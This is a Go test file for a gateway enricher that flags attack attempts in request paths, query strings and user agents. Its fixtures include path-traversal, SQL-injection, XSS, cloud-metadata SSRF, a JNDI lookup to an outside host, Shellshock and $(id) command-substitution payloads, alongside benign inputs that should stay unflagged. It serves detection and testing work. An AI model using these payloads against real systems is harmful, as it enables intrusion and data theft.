package enrich

import (
	"slices"
	"strings"
	"testing"

	"github.com/liveward/liveward/internal/event"
)

func TestAttackMarks(t *testing.T) {
	e := enricher(t, Config{})
	for _, tc := range []struct{ path, query, agent, want string }{
		{path: "/v1/liveness/check"},
		{path: "/v1/liveness/../../etc/hosts", want: "attack_lfi"},
		{path: "/v1/%2e%2e%2fadmin", want: "attack_lfi"},
		{path: "/v1/%252e%252e%252fadmin", want: "attack_lfi"},
		{path: "/.ENV", want: "attack_lfi"},
		{path: "/", query: "id=1%27%20OR%20%271%27=%271", want: "attack_sqli"},
		{path: "/", query: "id=1'+UNION+SELECT+1", want: "attack_sqli"},
		{path: "/", query: "q=%3CScRiPt%3Ealert(1)", want: "attack_xss"},
		{path: "/", query: "cb=http%3A%2F%2F169.254.169.254%2Flatest", want: "attack_ssrf"},
		{path: "/", agent: "${jndi:ldap://203.0.113.9/a}", want: "attack_rce"},
		{path: "/", agent: "() { :;}; echo", want: "attack_rce"},
		{path: "/", agent: strings.Repeat("sdk/1.0 ", maxAgent/8) + "() { :;}; echo", want: "attack_rce"},
		{path: "/%2e%2e/", query: "x=$(id)", want: "attack_lfi attack_rce"},

		// What honest callers write.
		{path: "/v1/people/o'brien", query: "name=O%27Brien&note=a+or+b"},
		{path: "/v1/liveness/check", query: "callback=https%3A%2F%2Fbank.example%2Fhook&score=%3E0.5"},
		{path: "/v1/liveness/results/s-2f..7c", query: "fields=decision,score&sort=-time"},
		{path: "/v1/liveness/sessions;v=1", agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0"},
		{path: "/", query: "discount=100%25&note=50%"},
		{path: "/", agent: "sdk (../app)"},
		{path: "/", agent: strings.Repeat("sdk/1.0 ", maxAgent/8) + "(../app)"},
		{path: "/", query: strings.Repeat("a=1&", maxProbe) + "id=1' or '1"}, // beyond what is looked at
	} {
		var ev event.Event
		ev.SetString(event.URLPath, tc.path)
		ev.SetString(event.URLQuery, tc.query)
		ev.SetString(event.UserAgentOriginal, tc.agent)
		e.Apply(&ev)
		got := slices.Clone(ev.List(event.GatewayFlags))
		if strings.Join(got, " ") != tc.want {
			t.Errorf("%s ? %.60s, %s: flags %q, want %q", tc.path, tc.query, tc.agent, got, tc.want)
		}
	}
}

// Whatever the bytes, searching ends and changes nothing but the flags.
func FuzzAttackMarks(f *testing.F) {
	f.Add("/%2e%2e/%", "a=%")
	f.Add("/a", "%25252e%252e/+++")
	f.Fuzz(func(t *testing.T, path, query string) {
		var ev event.Event
		ev.SetString(event.URLPath, path)
		ev.SetString(event.URLQuery, query)
		attacks(&ev, nil)
		if ev.Str(event.URLPath) != path || ev.Str(event.URLQuery) != query {
			t.Error("path or query was changed")
		}
		low := strings.ToLower(path)
		if len(path) < maxProbe && strings.Contains(low, "../") && !slices.Contains(ev.List(event.GatewayFlags), "attack_lfi") {
			t.Errorf("%q is not found", path)
		}
	})
}

func TestAttackMarksDoNotAllocate(t *testing.T) {
	var ev event.Event
	ev.SetString(event.URLPath, "/v1/liveness/results/s-1")
	ev.SetString(event.URLQuery, "callback=https%3A%2F%2Fbank.example%2Fhook")
	if n := testing.AllocsPerRun(100, func() { attacks(&ev, nil) }); n > 0 {
		t.Errorf("%v allocations", n)
	}
}
